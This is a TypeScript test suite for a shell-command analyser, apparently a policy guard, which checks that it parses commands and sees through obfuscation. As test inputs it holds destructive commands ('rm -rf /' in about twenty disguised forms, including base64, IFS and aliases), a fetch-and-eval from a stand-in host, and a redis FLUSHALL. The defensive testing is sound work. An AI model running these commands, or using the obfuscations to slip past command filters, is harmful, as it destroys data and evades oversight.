import fc from "fast-check";
import sh from "mvdan-sh";
import { describe, expect, it } from "vitest";
import { rewrites } from "../../../test/fixtures/policy/rewrites.mjs";
import { analyseShell } from "./analyse.ts";
import type { CommandRun } from "./types.ts";

const runs = (text: string, declared?: ReadonlySet<string>): readonly CommandRun[] => {
  const found = analyseShell(text, declared ? { declared } : {});
  if (!found.ok) throw new Error(`${found.problem.code}: ${found.problem.message}`);
  return found.runs;
};
const words = (run: CommandRun | undefined): readonly string[] =>
  run?.argv.map((word) => word.value ?? `?${word.raw}`) ?? [];
const last = (text: string): readonly string[] => words(runs(text).at(-1));
const problem = (text: string): string => {
  const found = analyseShell(text);
  return found.ok ? "ok" : found.problem.code;
};

describe("what is refused before it is read", () => {
  it.each([
    ["an unterminated quote", "echo 'x", "unparsable"],
    ["a stray parenthesis", ") rm -rf /", "unparsable"],
    ["a here-document without its end", "cat <<EOF\nhi", "unterminated-heredoc"],
    ["an escape sequence", "echo \u001b[2J", "control-character"],
    ["a carriage return", "ls\r", "control-character"],
    ["a NUL", "ls\0", "control-character"],
    ["a zero-width space in a name", "r\u200bm -rf /", "control-character"],
    ["a bidirectional override", "echo \u202e/ fr- mr", "control-character"],
    ["half a surrogate pair", "echo \ud800", "control-character"],
    ["more than 64 KiB", `echo ${"a".repeat(65 * 1024)}`, "too-long"],
    ["a fault inside a substitution", "echo $(ls |)", "unparsable"],
    ["a fault inside a payload", "bash -c 'if'", "unparsable"],
    ["a function substitution of bash 5.3", `echo $\{ ls; }`, "unsupported-syntax"],
  ])("%s", (_name, text, code) => {
    expect(problem(text)).toBe(code);
  });

  it("says where the fault is", () => {
    const found = analyseShell("ls; cat <<EOF\nhi");
    expect(found.ok ? null : found.problem.span).toEqual([8, 13]);
  });

  it("bounds nesting", () => {
    expect(problem(`${"$(".repeat(10_000)}ls`)).not.toBe("ok");
    expect(problem(`${"sudo ".repeat(100)}ls`)).toBe("too-deep");
  });
});

describe("text that grows", () => {
  it("stops following a value that doubles itself, and keeps it unknown", () => {
    const text = `x=aaaaaaaa; ${"x=$x$x; ".repeat(40)}rm $x`;
    expect(last(text)).toEqual(["rm", "?$x"]);
  });
});

describe("one command, however it is written", () => {
  const forms: readonly (readonly [string, string])[] = [
    ["quotes and escapes", `r''m "-r"f \\/`],
    ["ANSI quoting", "$'\\162\\155' -rf /"],
    ["constants", "a=r b=m; $a$b -rf /"],
    ["a default value", `r$\{undefined:-}m -rf /`],
    ["a slice", `v=xxrm; $\{v:2} -rf /`],
    ["IFS", `rm$\{IFS}-rf$IFS/`],
    ["an array", `a=(rm -rf /); "$\{a[@]}"`],
    ["set --", 'set -- rm -rf /; "$@"'],
    ["braces", "{rm,-rf,/}"],
    ["braces with empty words, which bash drops", "{,rm,-rf,,/,}"],
    ["read", "read a b <<< 'rm -rf'; $a $b /"],
    ["printf -v", "printf -v c %s rm; $c -rf /"],
    ["a substitution", "$(echo rm) -rf $(printf /)"],
    ["a decoder", "eval $(echo cm0gLXJmIC8= | base64 -d)"],
    ["tr", "$(echo EZ | tr EZ rm) -rf /"],
    ["an alias", "alias x='rm -rf'\nx /"],
    ["a function", "f() { rm $1 /; }; f -rf"],
    ["wrappers", "sudo -u bob env -i A=b nice -n 5 timeout 3 stdbuf -oL rm -rf /"],
    ["a shell in a shell", `env bash -c "bash -c 'rm -rf /'"`],
    ["a here-string", "bash <<< 'rm -rf /'"],
    ["xargs", "echo / | xargs rm -rf"],
    ["a loop variable", "for d in /; do rm -rf $d; done"],
  ];
  it.each(forms)("%s", (_name, text) => {
    expect(last(text)).toEqual(["rm", "-rf", "/"]);
  });
});

describe("what each run tells", () => {
  it("names the wrappers and the place it came through", () => {
    const [run] = runs("sudo ssh -p 22 web-1 'systemctl stop x'");
    expect(run?.via).toEqual(["sudo", "ssh web-1"]);
    expect(run?.where).toBe("remote");
    expect(runs("kubectl exec web-1 -c app -- ls /")[0]?.where).toBe("container");
  });

  it("keeps its place in the outermost text", () => {
    const text = "sudo bash -c 'cd /x && rm y'";
    expect(runs(text).map((run) => text.slice(...run.span))).toEqual(["cd /x", "rm y"]);
  });

  it("tells each word's place inside a quoted payload", () => {
    const text = 'ssh h "mysql -pS3cret shop"';
    const word = runs(text)[0]?.argv[1];
    expect(text.slice(...(word?.span ?? [0, 0]))).toBe("-pS3cret");
  });

  it("links a pipe and says what is fed", () => {
    const [first, second] = runs("echo FLUSHALL | redis-cli -h r");
    expect(first?.pipedFrom).toBeNull();
    expect(second?.pipedFrom).toBe(0);
    expect(second?.connector).toBe("|");
    expect(second?.stdin).toBe("FLUSHALL\n");
  });

  it("follows cd, and forgets it after a subshell", () => {
    expect(runs("cd /var && ls").at(-1)?.cwd).toBe("/var");
    expect(runs("(cd /var; ls); pwd").map((run) => run.cwd)).toEqual(["", "/var", ""]);
    expect(runs("cd a; cd b; ls").at(-1)?.cwd).toBe("a/b");
    expect(runs('cd "$X"; ls').at(-1)?.cwd).toBeNull();
  });

  it("tells a variable that may be empty from one that is declared", () => {
    const piece = (text: string, declared?: ReadonlySet<string>) =>
      runs(text, declared)[0]?.argv[1]?.pieces[0];
    expect(piece("rm $X")).toMatchObject({ kind: "variable", mayBeEmpty: true });
    expect(piece("rm $X", new Set(["X"]))).toMatchObject({ mayBeEmpty: false });
    expect(piece(`rm $\{X:?}`)).toMatchObject({ mayBeEmpty: false });
  });

  it("does not trust a value that a branch may have changed", () => {
    expect(last("x=/tmp/a; if b; then x=/; fi; rm $x")).toEqual(["rm", "?$x"]);
  });

  it("says where unknown bytes come from", () => {
    const piece = runs('eval "$(curl -s x.test)"').at(-1)?.argv[1]?.pieces[0];
    expect(piece).toMatchObject({ kind: "unknown", origin: "fetched", source: ["curl", "-s", "x.test"] });
  });

  it("walks substitutions, traps, functions that nobody calls, and arithmetic", () => {
    expect(runs("echo $(a) `b` <(c)").map((run) => words(run)[0])).toEqual(["a", "b", "c", "echo"]);
    expect(last("trap 'rm x' EXIT")).toEqual(["rm", "x"]);
    expect(last("f() { rm x; }")).toEqual(["rm", "x"]);
    expect(last("(( a[$(rm x)] ))")).toEqual(["rm", "x"]);
  });

  it("runs each command once", () => {
    expect(runs("f() { ls; }; f").map(words)).toEqual([["ls"]]);
    expect(runs("sudo env ls").map(words)).toEqual([["ls"]]);
  });
});

describe("laws", () => {
  it("no bytes make it throw", () => {
    const shellish = fc.string({
      unit: fc.constantFrom(..."rm -f/\"'`$(){}[]|&;<>\\\n\t*?~#=!aZ0.,:@%^_"),
      maxLength: 80,
    });
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ unit: "binary", maxLength: 200 })), (text) => {
        const found = analyseShell(text);
        if (!found.ok) return found.problem.code.length > 0;
        return found.runs.every(
          (run) => run.span[0] >= 0 && run.span[1] <= text.length && run.span[0] <= run.span[1],
        );
      }),
      { numRuns: 2_000 },
    );
  });

  it("every form of a plain command still runs it", () => {
    const form = fc.constantFrom(...Object.entries(rewrites));
    fc.assert(
      fc.property(form, ([name, change]) => {
        const text = change("frobnicate --deep 7");
        if (text === null) return true;
        const found = runs(text).map((run) => words(run).join(" "));
        return found.includes("frobnicate --deep 7") || name === "sudo -s";
      }),
      { numRuns: 500 },
    );
  });

  const parts = [
    "ls",
    "echo 'a b'",
    "a=1",
    "x | y",
    "if a; then b; fi",
    "(c)",
    "{ d; }",
    '"q $v"',
    "[[ -f x ]]",
    "case x in y) z;; esac",
    "! h",
    "i > j",
    "$(k)",
  ];
  const breaks = ["&&", ";", "(", "fi", "'", ")", "do", "||", "\n", "&"];
  const parser = sh.syntax.NewParser();
  const oracle = (text: string): number | null => {
    try {
      let calls = 0;
      sh.syntax.Walk(parser.Parse(text, ""), (node) => {
        if (node && sh.syntax.NodeType(node) === "CallExpr") calls++;
        return true;
      });
      return calls;
    } catch {
      return null;
    }
  };
  const joined = fc
    .array(fc.constantFrom(...parts, ...breaks), { minLength: 1, maxLength: 5 })
    .map((all) => all.join(" "));

  it("finds the commands that a second parser finds, and reads nothing that it refuses", () => {
    fc.assert(
      fc.property(joined, (text) => {
        const calls = oracle(text);
        const found = analyseShell(text);
        if (!found.ok) return true; // refusing more than the oracle is safe
        return calls === found.runs.length;
      }),
      { numRuns: 2_000 },
    );
  });
});
